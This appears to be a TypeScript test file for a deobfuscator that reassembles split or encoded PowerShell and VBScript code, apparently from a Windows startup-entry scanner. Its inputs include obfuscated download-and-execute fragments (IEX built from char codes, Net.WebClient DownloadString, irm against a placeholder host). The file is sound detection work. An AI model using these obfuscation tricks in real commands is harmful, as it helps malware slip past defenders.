import fc from 'fast-check';
import { expect, test } from 'vitest';
import { joinPieces, withVariables } from '../../../src/core/windows/launch/code-pieces.ts';
import { readValueTarget } from '../../../src/core/windows/launch/value-target.ts';

test.each([
  ["i''ex ('ht'+'tp://e.test')", "iex 'http://e.test'"],
  ["&('I'+'EX') $x", 'IEX  $x'],
  ["&('{1}{0}'-f'EX','I') (New-Object ('Net.Web'+'Client'))", "IEX  (New-Object 'Net.WebClient')"],
  ["iex ((\"{0}{2}{1}\" -f 'Down','String','load') + \"x\")", "iex 'DownloadStringx'"],
  ["IEX ('Dxwnlxad'.Replace('x','o'))", "IEX 'Download'"],
  ["iex ('hXXp://e.test' -creplace 'X','t')", "iex 'http://e.test'"],
  ["iex ([char[]](73,69,88) -join '')", "iex 'IEX'"],
  ["-join([char]73,[char]0x45,[char](88))|&($env:ComSpec[4,15,25]-join'')", "'IEX'|Iex "],
  ["& ($pshome[4]+$pshome[30]+'x') $y", 'iex  $y'],
  ["iex ('xei'[-1..-3] -join '')", "iex 'iex'"],
  [
    "(New-Object Net.WebClient).('Down'+'loadString').Invoke('a')",
    "(New-Object Net.WebClient).DownloadString.Invoke('a')",
  ],
  ['(New-Object Net.WebClient)."`D`o`wnloadString"(1)', '(New-Object Net.WebClient).DownloadString(1)'],
  ['I`E`X (N`ew-Obj`ect x)', 'IEX (New-Object x)'],
  [
    'CreateObject("WScr" & "ipt.Shell").Run Chr(67) & Chr(58) & "\\x.exe"',
    "CreateObject('WScript.Shell').Run 'C:\\x.exe'",
  ],
  ['eval(String.fromCharCode(97,108,101,114,116))', "eval('alert')"],
  ["x ($pshome[0,1,2] -join '')", "x 'C:\\'"],
  ["'{10}{0}' -f 'a','b','c','d','e','f','g','h','i','j','k'", "'ka'"],
])('%s is put together', (code, plain) => {
  expect(joinPieces(code)).toBe(plain);
});

test.each([
  'Get-Content C:\\x\\a.txt',
  "& 'C:\\x y\\a.ps1' -Name '' -Other \"\"",
  'Start-Process "C:\\x.exe"',
  '$a + $b',
  '[char]0',
  '[char]65536',
  '[char]letter',
  '',
])('%s is no code in pieces', (code) => {
  expect(joinPieces(code)).toBeUndefined();
});

test('what the pieces say is read as if it stood there: addresses, files that are started, values that are read', () => {
  expect(readValueTarget("powershell -c \"i''ex (irm ('ht'+'tp://e.test/a'))\"").url).toBe('http://e.test/a');
  expect(readValueTarget("powershell -c \"& ('C:\\x\\'+'a.exe')\"")).toMatchObject({
    kind: 'inline_code',
    path: 'c:\\x\\a.exe',
  });
  expect(readValueTarget("powershell -c \"iex (gp ('HKCU:\\Soft'+'ware\\X') Y).Y\"").registryPath).toBe(
    'HKCU\\Software\\X\\Y',
  );
});

test('variables that hold one literal are read as it, others stay', () => {
  expect(withVariables("$a='I';$b='EX'; &($a+$b) $c")).toBe(" &('I'+'EX') $c");
  expect(withVariables("$d = 'C:\\x'; & $d\\a.exe; $a[0]")).toBe(' & C:\\x\\a.exe; $a[0]');
  expect(withVariables("$path='C:\\x'; & $path -q; $PATH [0]; $path  =5")).toBe(
    " & 'C:\\x' -q; $PATH [0]; $path  =5",
  );
  expect(withVariables("$a='x'; f $a; $A='y'; g $a")).toBe(" f 'x';  g 'y'");
  expect(withVariables("function f { g $a }; $a='x'; f")).toBe("function f { g 'x' };  f");
  expect(withVariables('$a="$b"; $a')).toBe('$a="$b"; $a');
  expect(withVariables("$a='x'.replace('x','y'); $a")).toBe("$a='x'.replace('x','y'); $a");
  expect(readValueTarget("powershell -c \"$a='I';$b='EX'; &($a+$b) $c\"")).toMatchObject({
    code: "\"$a='I';$b='EX'; &($a+$b) $c\"",
    plainCode: expect.stringContaining('IEX  $c'),
  });
});

test('no text makes it throw, and what it gives is bounded', () => {
  const piece = fc.constantFrom(
    "'a'",
    '"b"',
    '+',
    '-f',
    '(',
    ')',
    "'{0}'",
    ',',
    '[char]73',
    '-join',
    '``',
    "''",
    '.replace(',
    '[-1..-2]',
    '&',
    ' ',
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
      expect((joinPieces(pieces.join('')) ?? '').length).toBeLessThan(16 * 1024 + 1);
    }),
    { numRuns: 1000 },
  );
  expect(
    (joinPieces(`'${'x'.repeat(4000)}'.replace('x','${'y'.repeat(4000)}')`) ?? '').length,
  ).toBeLessThanOrEqual(16 * 1024);
});
